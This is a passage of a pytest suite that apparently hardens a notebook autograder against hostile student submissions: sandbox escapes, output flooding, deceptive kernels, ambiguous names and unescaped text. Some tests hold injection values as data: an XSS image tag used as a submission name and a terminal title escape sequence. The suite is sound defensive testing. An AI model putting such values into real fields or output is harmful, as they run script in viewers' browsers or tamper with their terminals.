    run = [sys.executable, "-m", "nnscratch_tools", "grade", "--merge", str(manual),
           "--out", str(out), "--rubric", str(graded["rubric"])]  # fmt: skip
    done = subprocess.run(run, capture_output=True, text=True, timeout=300, cwd=REPO)
    assert done.returncode == 0, done.stderr
    grades = out / "grades.csv"
    grades.write_text(grades.read_text("utf-8").replace(",ok,", ",ok,", 1) + "x\n", "utf-8")
    done = subprocess.run(run, capture_output=True, text=True, timeout=300, cwd=REPO)
    assert done.returncode == 2 and "refusing to merge" in done.stderr, done.stderr


# ----------------------------------------------------------- second red team (issue 24)
def test_deep_folders_are_refused_not_walked(graded: dict) -> None:
    row = _row(graded, "deep_nesting")
    assert row["status"] == "could not run", row
    assert "nested more than 32 levels deep" in row["reason"], row


def test_the_kernel_cannot_write_to_the_host(graded: dict) -> None:
    conn = re.compile(r"^(chain|filled) (\S+) (\d+)", flags=re.M)
    seen = [*conn.findall(_outputs(graded, "conn_chain")),
            *conn.findall(_outputs(graded, "conn_fill"))]  # fmt: skip
    assert len(seen) == 4, seen
    for what, folder, amount in seen:
        if folder == "/run/nnscratch-kernel":
            assert what == "chain" or int(amount) <= 1, (folder, amount)  # a 1 MiB tmpfs
        else:
            assert int(amount) == 0, (what, folder, amount)  # the host folder is read-only
    for name in ("conn_chain", "conn_fill"):
        assert _row(graded, name)["status"] == "ok", _row(graded, name)
    assert graded["own_scratch"] == [], "the grader left its scratch folder behind"


@pytest.mark.parametrize("name", ["display_amplify", "widget_buffers"])
def test_output_amplification_is_bounded(graded: dict, name: str) -> None:
    executed = graded["out"] / "executed" / f"{name}.ipynb"
    assert executed.stat().st_size < 25_000_000, executed.stat().st_size
    assert "widgets" not in nbformat.read(executed, as_version=4).metadata
    if name == "display_amplify":
        assert "output truncated" in _row(graded, name)["reason"]


@pytest.mark.parametrize("name", ["lie_hook", "lie_transformer", "lie_reply"])
def test_a_lying_kernel_gains_nothing(graded: dict, name: str) -> None:
    row = _row(graded, name)
    assert (row["runs_top_to_bottom"], row["no_errors"]) == ("0", "0"), row
    feedback = (graded["out"] / "feedback" / f"{name}.md").read_text("utf-8")
    assert "reaches into the kernel" in feedback
    if name == "lie_hook":  # the runner saw the traceback the reply denies
        assert "1 cell(s) raised errors, first ValueError" in row["reason"], row


def test_one_heading_counts_for_one_section(graded: dict) -> None:
    rubric = load_rubric(graded["rubric"])
    full = rubric.criterion("sections_present").points
    combined = float(_row(graded, "headings_combined")["sections_present"])
    titled = float(_row(graded, "headings_title")["sections_present"])
    assert combined == pytest.approx(full / 4) and titled == pytest.approx(full * 3 / 4)
    assert "missing or empty: Code" in (
        graded["out"] / "feedback" / "headings_title.md"
    ).read_text("utf-8")


def test_labels_identify_students_and_merge_refuses_a_bare_name(
    graded: dict, tmp_path: Path
) -> None:
    assert "bob" not in graded["rows"]
    out = tmp_path / "grades"
    shutil.copytree(graded["out"], out)
    rubric = load_rubric(graded["rubric"])
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        names = [r["submission"] for r in csv.DictReader(handle) if r["status"] != "skipped"]
    manual = tmp_path / "manual.csv"
    with open(manual, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["submission", *(c.id for c in rubric.manual)])
        for name in [n for n in names if n not in BOBS] + ["bob", *BOBS[1:]]:
            writer.writerow([name, *(["1"] * len(rubric.manual))])
    done = subprocess.run(
        [sys.executable, "-m", "nnscratch_tools", "grade", "--merge", str(manual),
         "--out", str(out), "--rubric", str(graded["rubric"])],
        capture_output=True, text=True, timeout=300, cwd=REPO,
    )  # fmt: skip
    assert done.returncode == 2 and "'bob' is ambiguous" in done.stderr, done.stderr
    assert not (out / "final.csv").exists()


def test_what_a_submission_controls_is_escaped(graded: dict) -> None:
    stdout = graded["done"].stdout
    assert "\x1b" not in stdout and "\x07" not in stdout
    assert "\\x1b]0;pwned" in stdout  # shown, spelt out, on one line
    assert not any(line.lstrip().startswith("aa_honest 1.0 s") for line in stdout.splitlines())
    row = graded["rows"]["<img src=x onerror=alert(3)>"]
    feedback = (graded["out"] / row["feedback"]).read_text("utf-8")
    for raw in ("<img", "<script", "\x1b", "\x07", "`tick`", "`x`"):
        assert raw not in feedback, raw
    assert "&lt;img src=x onerror=alert\\(3\\)&gt;" in feedback


def test_feedback_lists_only_what_the_probe_checked(graded: dict) -> None:
    feedback = (graded["out"] / "feedback" / "aa_honest.md").read_text("utf-8")
    assert "check failed" not in feedback
    assert "every writable folder is a private tmpfs with a size cap" in feedback
    assert "connection file is read-only" in feedback


def test_a_notebook_of_many_cells_is_refused(graded: dict) -> None:
    row = _row(graded, "many_cells")
    assert row["status"] == "could not run" and "more than 2000" in row["reason"], row


def test_hard_links_are_never_read(graded: dict) -> None:
    text = _outputs(graded, "hardlink")
    assert "no secret data.csv False" in text and "LEAK" not in text, text


def test_leftovers_of_a_killed_grader_are_removed(graded: dict) -> None:
    assert graded["leftovers"] == []
